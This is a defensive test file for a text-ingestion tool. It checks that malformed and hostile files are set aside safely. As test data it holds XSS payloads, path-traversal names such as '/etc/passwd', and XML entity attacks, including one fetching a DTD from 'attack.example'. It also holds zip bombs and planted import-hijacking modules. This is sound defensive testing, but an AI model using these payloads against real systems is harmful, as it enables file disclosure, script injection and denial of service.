"""Hostile input: nothing crashes, hangs, writes outside its folder or is executed, and one bad file costs no other."""

import os
import string
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import framing as fr
from framing.corpus import CorpusError
from framing.intake import files, patience, worker, zips
from framing.intake.cleaning import clean, finish
from framing.intake.drafts import DOCUMENT, INVISIBLE, LONGEST, Aside, Draft, Unreadable, address, line
from framing.intake.files import KINDS
from framing.intake.identifiers import RESERVED
from framing.intake.ingest import ingest
from tests.intake import made

FEW = settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'><svg/onload=alert(3)>"


def answers(path: Path, content: bytes | None = None) -> list[dict[str, dict[str, str]]]:
    """What the reading process says, asked in this one: nothing that it raises is missed."""
    if content is not None:
        path.write_bytes(content)
    found = list(worker.answers({"path": str(path)}))
    assert "end" in found[-1]
    return found[:-1]


def why(path: Path, content: bytes | None = None) -> str:
    return "; ".join(answer["aside"]["why"] for answer in answers(path, content) if "aside" in answer)


def drafts(path: Path, content: bytes | None = None) -> list[Draft]:
    return [Draft(**answer["draft"]) for answer in answers(path, content) if "draft" in answer]


# Anything at all.


def test_every_kind_has_a_well_formed_example(tmp_path: Path) -> None:
    kinds = set()
    for name, content in made.WELL.items():
        (tmp_path / name).write_bytes(content)
        kinds.add(files.looked_at(tmp_path / name, files.kind_of(tmp_path / name)))
        assert drafts(tmp_path / name), name
    assert kinds == set(KINDS)


@pytest.mark.parametrize("name", made.WELL)
@FEW
@given(data=st.data())
def test_what_is_damaged_is_read_or_set_aside(name: str, data: st.DataObject, tmp_path: Path) -> None:
    raw = bytearray(made.WELL[name])
    for _ in range(data.draw(st.integers(1, 6))):
        at = data.draw(st.integers(0, len(raw) - 1))
        change = data.draw(st.sampled_from(["cut", "set", "insert", "double", "drop"]))
        piece = data.draw(st.binary(min_size=1, max_size=12))
        if change == "cut" and at > 8:
            raw = raw[:at]
        elif change == "drop":
            raw[at : at + 5] = b""
        elif change == "double":
            raw = raw[:at] + raw[at : at + 200] * 2 + raw[at + 200 :]
        else:
            raw[at : at + (len(piece) if change == "set" else 0)] = piece
        raw = raw or bytearray(b" ")
    found = answers(tmp_path / name, bytes(raw))
    assert all(set(answer) <= {"draft", "aside"} for answer in found)
    for answer in found:
        assert not answer.get("aside", {}).get("why", "").startswith("it cannot be read (")  # what nobody foresaw


@pytest.mark.parametrize("name", made.WELL)
@FEW
@given(
    raw=st.binary(min_size=1, max_size=300)
    | st.text(min_size=1, max_size=300).map(lambda t: t.encode("utf-8", "replace"))
)
def test_any_bytes_are_read_or_set_aside(name: str, raw: bytes, tmp_path: Path) -> None:
    found = answers(tmp_path / name, raw)
    assert not any("it cannot be read (" in answer.get("aside", {}).get("why", "") for answer in found)


WILD = st.text(st.characters() | st.sampled_from("\x00\u202e\u2066\u200b\ufeff\r\n\x85\u2028+=@<&'\"\ud800\u0301"))


@settings(max_examples=150, deadline=None)
@given(title=WILD, text=WILD)
def test_a_text_is_clean_and_is_read_again_as_it_was_written(title: str, text: str) -> None:
    found = finish(Draft(text, title=line(title)))
    if isinstance(found, Aside):
        return
    assert found.text is not None
    assert not INVISIBLE.search(found.text) and not INVISIBLE.search(found.title)
    assert "\n" not in found.title and "\r" not in found.text
    found.text.encode("utf-8")
    assert not found.text.startswith("+++\n")


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=WILD, outlet=WILD, text=st.text(string.ascii_letters + " .", min_size=3))
def test_whatever_a_row_says_stays_inside_the_folder(
    name: str, outlet: str, text: str, tmp_path_factory: pytest.TempPathFactory, alone: None
) -> None:
    home = tmp_path_factory.mktemp("home")
    rows = [
        {"id": name, "source": outlet, "text": f"Ferry {text}", "date": "2024-05-01"},
        {"id": name, "text": f"Boat {text}"},
    ]
    source = made.write(home / "in", {"a.jsonl": made.jsonl(*rows)})
    came = ingest(source, date="2024-06-01")
    corpus = came.save(home / "out")
    assert [a.text for a in corpus] == [a.text for a in came.corpus]
    assert sorted(p.name for p in home.iterdir()) == ["in", "out"]
    for article in corpus:
        assert article.id.isascii() and len(article.id) <= 60 and article.id not in RESERVED
        assert (home / "out" / "texts" / f"{article.id}.txt").is_file()


@pytest.fixture
def alone(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Files are read in this process, as in a browser: faster where a test reads many."""
    monkeypatch.setattr(sys, "platform", "emscripten")
    yield


@pytest.mark.parametrize(
    "name", ["../../evil", "..", "/etc/passwd", "C:\\evil", "con", "a\x00b", ".git/hooks/x", "x" * 999]
)
def test_paths_in_identifiers_lead_nowhere(name: str, tmp_path: Path, alone: None) -> None:
    source = made.write(tmp_path / "in", {"a.jsonl": made.jsonl({"id": name, "text": made.body()})})
    ingest(source).save(tmp_path / "out")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in", "out"]
    (text,) = (tmp_path / "out" / "texts").iterdir()
    assert text.suffix == ".txt" and text.stem not in RESERVED


# Too large, too deep, packed to burst.


@pytest.mark.slow
def test_a_line_of_fifty_megabytes(tmp_path: Path) -> None:
    long = b"a" * 50_000_000
    assert "the file has 50.0 MB; of plain text up to 5 MB are read" in why(tmp_path / "a.txt", long)
    row = b'{"title": "A", "text": "Short."}\n'
    found = answers(tmp_path / "a.jsonl", row + b'{"text": "' + long + b'"}\n' + row)
    assert [next(iter(answer)) for answer in found] == ["draft", "aside", "draft"]
    assert f"at most {DOCUMENT:,}" in found[1]["aside"]["why"]
    found = answers(tmp_path / "a.csv", b"title,text\nA,Short.\nB," + long + b"\nC,Short.\n")
    assert [next(iter(answer)) for answer in found] == ["draft", "aside", "draft"]
    assert f"at most {DOCUMENT:,}" in found[1]["aside"]["why"]
    assert "the file has 50.0 MB" in why(tmp_path / "a.html", long)


def test_a_cell_or_a_line_that_is_no_article_costs_no_other(tmp_path: Path) -> None:
    long, row = b"a" * (DOCUMENT + 1), b'{"title": "A", "text": "Short."}\n'
    for name, text in (
        ("a.jsonl", row + b'{"text": "' + long + b'"}\n' + row),
        ("a.csv", b"title,text\nA,Short.\nB," + long + b"\nC,Short.\n"),
    ):
        first, aside, last = answers(tmp_path / name, text)
        assert "draft" in first and "draft" in last
        assert f"at most {DOCUMENT:,}" in aside["aside"]["why"]


def test_a_text_that_is_no_article_any_more(tmp_path: Path) -> None:
    assert f"at most {LONGEST:,}" in why(tmp_path / "a.txt", b"ab " * (LONGEST // 3 + 1))


SLOW = [pytest.param(tag, marks=pytest.mark.slow) for tag in ("b", "ul><li", "blockquote", "a href=x", "font", "svg")]


@pytest.mark.parametrize("tag", ["div", "table><tr><td", *SLOW])
def test_a_hundred_thousand_nested_tags(tag: str, tmp_path: Path) -> None:
    page = f"<html><body>{f'<{tag}>' * 100_000}<p>{made.body()}</p></body></html>"
    for answer in answers(tmp_path / "a.html", page.encode()):
        assert "draft" in answer or "no article was found" in answer["aside"]["why"]


def test_other_things_nested_deep(tmp_path: Path) -> None:
    deep = 100_000
    assert "nested too deep" in why(tmp_path / "a.json", b"[" * deep + b"]" * deep)
    assert why(tmp_path / "a.jsonl", b'{"text": ' * deep + b"1" + b"}" * deep)
    assert "nested deeper" in why(tmp_path / "a.xml", b"<rss>" + b"<a>" * deep + b"</a>" * deep + b"</rss>")
    parts = b"".join(b"Content-Type: multipart/mixed; boundary=%d\n\n--%d\n" % (n, n) for n in range(3_000))
    assert why(tmp_path / "a.mhtml", parts)
    assert "not TOML" in why(tmp_path / "a.md", b"+++\na = " + b"[" * deep + b"\n+++\nText.")
    nested = b"<w:tbl><w:tr><w:tc>" * 5_000
    docx = made.rebuilt(
        made.WELL["a.docx"], {"word/document.xml": lambda xml: xml.replace(b"<w:body>", b"<w:body>" + nested)}
    )
    assert "cannot be read" in why(tmp_path / "a.docx", docx)


def test_marks_piled_up_on_a_letter_do_not_hang() -> None:
    pile = "a" + "\u0301\u0323\u0308\u0327" * 200_000
    assert len(clean(pile)) < 100
    assert clean("Zoe\u0308") == "Zoë"


@pytest.mark.parametrize("name", ["a.docx", "a.xlsx"])
def test_archives_packed_to_burst_are_not_unpacked(name: str, tmp_path: Path) -> None:
    bomb = made.rebuilt(made.WELL[name], {"word/media/zeros.xml": b"\x00" * 60_000_000})
    assert len(bomb) < 200_000
    assert "made to exhaust" in why(tmp_path / name, bomb)


@pytest.mark.slow
@pytest.mark.parametrize("name", ["a.docx", "a.xlsx"])
def test_archives_of_too_much_or_too_many(name: str, tmp_path: Path) -> None:
    many = made.rebuilt(made.WELL[name], {f"x/{n}.xml": b"" for n in range(zips.MEMBERS)})
    assert "files" in why(tmp_path / name, many)
    noise = os.urandom(1_000_000) + b"\x00" * 90_000_000
    assert "unpacks to" in why(tmp_path / name, made.rebuilt(made.WELL[name], {f"m/{n}.bin": noise for n in range(3)}))


def test_a_directory_that_lies_about_sizes(tmp_path: Path) -> None:
    raw = bytearray(made.rebuilt(made.WELL["a.docx"], {"word/zeros.xml": b"\x00" * 3_000_000}))
    size = (3_000_000).to_bytes(4, "little")
    at = raw.rfind(size)
    raw[at : at + 4] = (1000).to_bytes(4, "little")
    assert why(tmp_path / "a.docx", bytes(raw))


@pytest.mark.parametrize("name", ["a.docx", "a.xlsx"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_in_the_xml_of_documents(name: str, encoding: str, tmp_path: Path) -> None:
    attack = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'.encode(encoding)
    part = "word/document.xml" if name == "a.docx" else "xl/workbook.xml"
    assert "defines entities" in why(tmp_path / name, made.rebuilt(made.WELL[name], {part: attack}))


@pytest.mark.parametrize(
    "attack",
    [
        '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">',
        '<!ENTITY b SYSTEM "file:///etc/passwd">',
        '<!ENTITY % c SYSTEM "http://attack.example/x.dtd"> %c; <!ENTITY b "x">',
    ],
)
def test_entities_in_feeds(attack: str, tmp_path: Path) -> None:
    item = "<item><title>&b;</title><link>https://t.example/1</link></item>"
    feed = f"<!DOCTYPE rss [{attack}]>{made.rss(item).partition('?>')[2]}"
    assert "defines entities" in why(tmp_path / "a.xml", feed.encode())


def test_documents_that_are_locked_or_broken(tmp_path: Path) -> None:
    locked = made.pdf([["Ferry ends"]], password="boat")
    assert "locked with a password" in why(tmp_path / "a.pdf", locked)
    assert "damaged" in why(tmp_path / "a.pdf", made.WELL["a.pdf"][:200])
    assert "holds no text" in why(tmp_path / "a.pdf", made.pdf([[]]))
    assert "before 2007" in why(tmp_path / "a.docx", b"\xd0\xcf\x11\xe0" + b"\x00" * 600)
    assert "damaged" in why(tmp_path / "a.xlsx", b"no zip at all")
    assert "cannot be read" in why(tmp_path / "a.docx", made.zipped({"a.txt": b"x"}))


def test_a_pdf_whose_pages_go_round_in_a_circle(tmp_path: Path) -> None:
    raw = made.WELL["a.pdf"].replace(b"/Kids [5 0 R]", b"/Kids [2 0 R]")
    assert raw != made.WELL["a.pdf"]
    assert why(tmp_path / "a.pdf", raw)


# A process that hangs, dies or swells.


@pytest.fixture
def trap(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """In the reading process, files whose names say so hang, crash, or take all memory."""
    code = """
import framing.intake.files as files
real = files.documents.read_text
def trapped(path):
    if path.stem == "hang":
        import time; time.sleep(600)
    if path.stem == "crash":
        import os; os.abort()
    if path.stem == "swell":
        files.kept = [bytes(10**9) for _ in range(100)]
    if path.stem == "print":
        print("{broken protocol"); import os; os.write(1, b"{more of it")
    yield from real(path)
files.documents.read_text = trapped
from framing.intake.worker import main; main()
"""
    monkeypatch.setattr(patience, "START", f"import sys; sys.path.append(sys.argv[1])\n{code}")
    yield


def test_one_bad_file_costs_no_other(tmp_path: Path, trap: None) -> None:
    days = {"a": "Monday", "crash": "x", "e": "Friday", "hang": "y", "print": "Sunday", "z": "noon"}
    source = made.write(tmp_path, {f"{name}.txt": made.body(day) for name, day in days.items()})
    started = time.monotonic()
    came = ingest(source, seconds=8)
    assert time.monotonic() - started < 300  # hang would take 600
    told = came.table.set_index("source")
    assert list(told["status"]) == ["came", "set aside", "came", "set aside", "came", "came"]
    assert "stopped the program" in told.loc["crash.txt", "why"]
    assert "for 8 s nothing more came" in told.loc["hang.txt", "why"]
    assert "Sunday" in (came.corpus["print"].text or "")


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the bound on memory is one of Linux")
def test_a_file_that_takes_all_memory_is_set_aside(tmp_path: Path, trap: None) -> None:
    source = made.write(tmp_path, {"swell.txt": made.body(), "z.txt": made.body("Friday")})
    came = ingest(source)
    assert list(came.table["status"]) == ["set aside", "came"]
    assert "memory" in came.table["why"].iloc[0]


def test_a_module_in_the_folder_is_not_run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    attack = "open('executed', 'w').write('x')"
    made.write(
        tmp_path, {f"{name}.py": attack for name in ("json", "trafilatura", "docx", "encodings", "sitecustomize")}
    )
    made.write(tmp_path, {"a.html": made.html()})
    monkeypatch.chdir(tmp_path)
    assert ingest(tmp_path).counts["came"] == 1
    assert not (tmp_path / "executed").exists()


# What is no file, or leads elsewhere.


@pytest.mark.skipif(os.name == "nt", reason="links and pipes as POSIX has them")
def test_links_out_of_the_folder_and_pipes_are_not_read(tmp_path: Path, alone: None) -> None:
    secret = tmp_path / "secret"
    made.write(secret, {"key.txt": made.body("never")})
    folder = made.write(tmp_path / "in", {"a.txt": made.body()})
    (folder / "b.txt").symlink_to(secret / "key.txt")
    (folder / "c").symlink_to(secret)
    (folder / "round").symlink_to(folder)
    os.mkfifo(folder / "d.txt")
    came = ingest(folder)
    assert list(came.table["source"]) == ["a.txt", "b.txt", "d.txt"]
    assert list(came.table["status"]) == ["came", "set aside", "set aside"]
    corpus = tmp_path / "out"
    came.save(corpus)
    (corpus / "texts").rename(tmp_path / "elsewhere")
    (corpus / "texts").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(CorpusError, match="link to another folder"):
        ingest(made.write(tmp_path / "more", {"n.txt": made.body("noon")})).save(corpus, add=True)


@pytest.mark.skipif(os.name == "nt" or sys.platform == "darwin", reason="such names exist on Linux")
def test_names_of_files_that_are_no_text_are_told_as_text(tmp_path: Path) -> None:
    for name in (b"\xff\xfe.txt", b"a\x1b[2Jb.txt", "x\u202etxt.exe".encode()):
        (tmp_path / os.fsdecode(name)).write_text(made.body(str(len(name))))
    came = ingest(tmp_path)
    assert came.counts == {"came": 2, "to fetch": 0, "folded": 0, "set aside": 1}
    for source in came.table["source"]:
        assert source.isprintable() and source.encode()


# What a document says reaches no page as markup.


def test_nothing_of_a_document_is_markup_in_a_notebook(tmp_path: Path, alone: None) -> None:
    told = {"title": f"Ferry {SCRIPT}", "outlet": f"Times {SCRIPT}", "url": "javascript:alert(4)", "id": SCRIPT}
    told |= {
        "text": f"The Ferry Board made a shameful decision, {SCRIPT} said Mayor Ana Silva.\n\n{made.body()} {SCRIPT}"
    }
    named = f"b{SCRIPT.replace('/', '')}.txt"
    source = made.write(tmp_path / "in", {"a.jsonl": made.jsonl(told), named: f"Boats {SCRIPT}\n\n{made.body('noon')}"})
    came = ingest(source)
    corpus = came.save(tmp_path / "out")
    article = next(a for a in corpus if "shameful" in (a.text or ""))
    assert SCRIPT in (article.text or "") and article.url == ""
    evidence = corpus.evidence
    pages = [
        came._repr_html_(),
        fr.highlight(article)._repr_html_(),
        fr.concordance(corpus, "Ferry")._repr_html_(),
        fr.portrayal(evidence, by="outlet")._repr_html_(),
        fr.sourcing(evidence)._repr_html_(),
        fr.vocabulary(evidence)._repr_html_(),
    ]
    for page in pages:
        assert "alert" not in page or "&lt;" in page
        for bad in ("<script>alert", "<img src=x", "<svg/onload"):
            assert bad not in page
    assert any("&lt;script&gt;" in page for page in pages)
    card = corpus.card
    assert "<script" not in card and "<img" not in card and "<svg" not in card


@settings(max_examples=100, deadline=None)
@given(st.text())
def test_only_addresses_of_the_web_are_kept(text: str) -> None:
    for tried in (text, f"javascript:{text}", f"data:text/html,{text}", f"file://{text}", f" https://x\n{text}"):
        kept = address(tried)
        assert not kept or (kept.lower().startswith(("http://", "https://")) and not set(kept) & set("<>\"' \n\t"))


def test_what_reads_nothing_says_why(tmp_path: Path) -> None:
    with pytest.raises(CorpusError, match=r"a\.txt: the file is empty"):
        ingest(made.write(tmp_path, {"a.txt": ""}))
    with pytest.raises(Unreadable, match="no kind"):
        list(files.read_file(tmp_path / "a.txt", "nothing"))
